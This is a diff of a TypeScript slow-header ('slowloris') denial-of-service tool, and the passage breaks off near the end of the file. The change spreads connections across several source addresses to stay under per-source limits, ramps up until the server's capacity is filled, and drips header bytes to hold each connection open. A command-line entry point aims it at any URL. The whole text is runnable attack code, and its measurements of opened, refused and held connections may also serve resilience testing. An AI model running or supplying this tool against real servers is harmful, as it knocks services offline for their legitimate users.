@@ -1,45 +1,78 @@
 import { connect, type Socket } from "node:net";
 
 /** A slow-header flood (often called slowloris): connections that never finish asking. */
-interface FloodOptions {
+export interface SlowHeaders {
   readonly url: string;
-  readonly connections: number;
+  /** Local addresses to come from; each stays below what one source may open in a while. */
+  readonly sources: readonly string[];
+  /** Connections that each source opens in a second. */
+  readonly rate: number;
   /** Seconds. */
   readonly duration: number;
-  /** Local address to come from. */
-  readonly source?: string;
+  /** Seconds until as many are open as the server lets stay. */
+  readonly ramp: number;
 }
 
-/** Keeps so many connections open as the server bears, each with a byte of a header a second; tells the most at a time. */
-async function slowHeaders({ url, connections, duration, source }: FloodOptions): Promise<{ most: number }> {
+/** What became of it. */
+export interface SlowHeadersResult {
+  /** Connections that the server took: it had not closed them after `settled` seconds. */
+  readonly opened: number;
+  /** Connections that it closed sooner, or did not answer. */
+  readonly refused: number;
+  /** The fewest that it held open at a time, after the ramp. */
+  readonly held: number;
+}
+
+/** Seconds after which a connection counts as taken: one that is refused is accepted by the kernel first. */
+const settled = 0.5;
+
+/** Milliseconds between two rounds of opening, and between two looks at how many are open. */
+const tick = 50;
+
+/** Opens connections one after the other, evenly, and drips a byte of a header a second into each that is open. */
+export async function slowHeaders({ url, sources, rate, duration, ramp }: SlowHeaders): Promise<SlowHeadersResult> {
   const { hostname: host, port } = new URL(url);
-  const open = new Set<Socket>();
-  let most = 0;
-  const start = () => {
-    const socket = connect({ host, port: Number(port || 80), ...(source ? { localAddress: source } : {}) });
+  const open = new Map<Socket, { readonly since: number; taken: boolean }>();
+  const sockets = new Set<Socket>();
+  let [opened, refused, held] = [0, 0, Infinity];
+  const start = (localAddress: string | undefined) => {
+    const socket = connect({ host, port: Number(port || 80), ...(localAddress === undefined ? {} : { localAddress }) });
+    sockets.add(socket);
     socket.on("connect", () => {
-      open.add(socket);
-      most = Math.max(most, open.size);
+      open.set(socket, { since: performance.now(), taken: false });
       socket.write(`GET / HTTP/1.1\r\nHost: ${host}\r\nX-Slow: `);
     });
     socket.on("error", () => undefined);
-    socket.on("close", () => open.delete(socket));
-    return socket;
+    // The server's answer, 408, is not read, and its end ends the connection.
+    socket.resume();
+    socket.on("close", () => {
+      if (!open.get(socket)?.taken) refused++;
+      open.delete(socket);
+      sockets.delete(socket);
+    });
   };
-  const sockets = Array.from({ length: connections }, start);
   const drip = setInterval(() => {
-    for (const socket of open) socket.write("a");
-    // What the server closed is opened again: an attacker does not give up.
-    for (const [index, socket] of sockets.entries()) if (socket.destroyed) sockets[index] = start();
+    for (const socket of open.keys()) socket.write("a");
   }, 1000);
-  await new Promise((resolve) => setTimeout(resolve, duration * 1000));
+  const begun = performance.now();
+  const seconds = () => (performance.now() - begun) / 1000;
+  for (let started = 0; seconds() < duration; await new Promise((resolve) => setTimeout(resolve, tick))) {
+    const due = Math.floor(seconds() * rate * sources.length);
+    for (; started < due; started++) start(sources[started % sources.length]);
+    for (const state of open.values()) {
+      if (state.taken || performance.now() - state.since < settled * 1000) continue;
+      state.taken = true;
+      opened++;
+    }
+    if (seconds() >= ramp) held = Math.min(held, [...open.values()].filter(({ taken }) => taken).length);
+  }
   clearInterval(drip);
-  for (const socket of sockets) socket.destroy();
-  return { most };
+  for (const socket of sockets) socket.removeAllListeners("close").destroy();
+  return { opened, refused, held: Number.isFinite(held) ? held : 0 };
 }
 
 if (require.main === module) {
-  slowHeaders(JSON.parse(process.argv[2] ?? "{}") as FloodOptions)
+  slowHeaders(JSON.parse(process.argv[2] ?? "{}") as SlowHeaders)
     .then((result) => process.stdout.write(`${JSON.stringify(result)}\n`))
     .catch((error: unknown) => {
       process.stderr.write(`${error instanceof Error ? error.message : String(error)}\n`);
